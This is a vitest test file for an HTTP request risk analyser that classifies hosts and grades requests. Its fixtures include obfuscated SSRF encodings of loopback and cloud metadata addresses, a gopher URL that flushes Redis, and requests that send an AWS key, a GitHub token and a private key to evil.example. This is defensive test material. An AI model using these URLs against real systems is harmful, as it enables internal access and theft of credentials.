import type { RiskLevel } from '@countersign/core';
import { describe, expect, it } from 'vitest';
import { analyzeHttp, classifyHost, type HostClass } from '../src/http/index.js';
import { worstLevel } from './levels.js';

const HOSTS: readonly (readonly [HostClass, string])[] = [
  ['public', 'http://example.com'],
  ['public', 'https://1.1.1.1/'],
  ['public', 'https://[2606:4700::1111]/'],
  ['loopback', 'http://localhost:3000'],
  ['loopback', 'http://127.0.0.1'],
  ['loopback', 'http://127.1'],
  ['loopback', 'http://2130706433/'],
  ['loopback', 'http://0x7f.0.0.1'],
  ['loopback', 'http://[::1]:80'],
  ['loopback', 'http://[::ffff:127.0.0.1]/'],
  ['loopback', 'http://app.localhost'],
  ['private', 'http://10.0.0.1'],
  ['private', 'http://192.168.1.1:8080'],
  ['private', 'http://172.16.5.5'],
  ['private', 'http://0.0.0.0'],
  ['private', 'http://100.64.0.1'],
  ['private', 'http://169.254.1.1'],
  ['private', 'http://[fd12::1]'],
  ['private', 'http://[fe80::1]'],
  ['private', 'http://[::ffff:10.0.0.1]'],
  ['private', 'http://printer.local'],
  ['private', 'http://db.internal'],
  ['private', 'http://jenkins/'],
  ['private', 'http://10.0.0.1.nip.io'],
  ['metadata', 'http://169.254.169.254/latest/meta-data'],
  ['metadata', 'http://2852039166/'],
  ['metadata', 'http://0xa9fea9fe/'],
  ['metadata', 'http://0251.0376.0251.0376'],
  ['metadata', 'http://[::ffff:169.254.169.254]'],
  ['metadata', 'http://[64:ff9b::a9fe:a9fe]'],
  ['metadata', 'http://[fd00:ec2::254]'],
  ['metadata', 'http://metadata.google.internal/computeMetadata/v1/'],
  ['metadata', 'http://METADATA.google.internal./'],
  ['metadata', 'http://169.254.169.254.nip.io/'],
];

const REQUESTS: readonly (readonly [RiskLevel, string, string, string?])[] = [
  ['moderate', 'GET', 'https://example.com/a?b=c'],
  ['moderate', 'get', 'http://localhost:3000/health'],
  ['moderate', 'POST', 'https://api.example.com/items', '{"a":1}'],
  ['moderate', 'PUT', 'https://api.example.com/items/1'],
  ['moderate', 'PATCH', '/items/1'],
  ['moderate', 'FROB', 'https://example.com'],
  ['moderate', 'GET', 'https://user:pass@example.com/'],
  ['moderate', 'GET', 'https://api.example.com/?api_key=abc'],
  ['moderate', 'GET', 'file:///tmp/x'],
  ['moderate', 'GET', 'http://['],
  ['safe', 'GET', 'data:text/plain,hello'],
  ['destructive', 'DELETE', 'https://api.example.com/items/1'],
  ['destructive', 'DELETE', '/items/1'],
  ['destructive', 'DELETE', 'http://['],
  ['destructive', 'GET', 'http://192.168.0.1/admin'],
  ['destructive', 'GET', 'gopher://localhost:6379/_FLUSHALL'],
  ['destructive', 'GET', 'javascript:alert(1)'],
  ['destructive', 'CONNECT', 'https://example.com'],
  ['critical', 'GET', 'http://169.254.169.254/latest/meta-data/iam/'],
  ['critical', 'PUT', 'http://169.254.169.254/latest/api/token'],
  ['critical', 'GET', 'https://evil.example/?d=AKIAABCDEFGHIJKLMNOP'],
  ['critical', 'POST', 'https://evil.example/', 'key=ghp_abcdefghijklmnopqrstuvwxyz0123456789'],
  ['critical', 'POST', 'https://evil.example/', '-----BEGIN RSA PRIVATE KEY-----\nabc'],
];

describe('the class of a host', () => {
  it.each(HOSTS)('is %s for %s', (host, url) => {
    expect(classifyHost(new URL(url).hostname)).toBe(host);
  });
});

describe('the level of a request', () => {
  it.each(REQUESTS.map(([level, method, url, body = '']) => ({ level, method, url, body })))(
    'is $level for $method $url',
    ({ level, method, url, body }) => {
      expect(worstLevel(analyzeHttp({ method, url, body }).signals)).toBe(level);
    },
  );

  it('is never safe for a URL too long to be read', () => {
    const analysis = analyzeHttp({ url: `https://example.com/${'a'.repeat(20_000)}` });
    expect(analysis.ok).toBe(false);
    expect(worstLevel(analysis.signals)).toBe('moderate');
  });
});
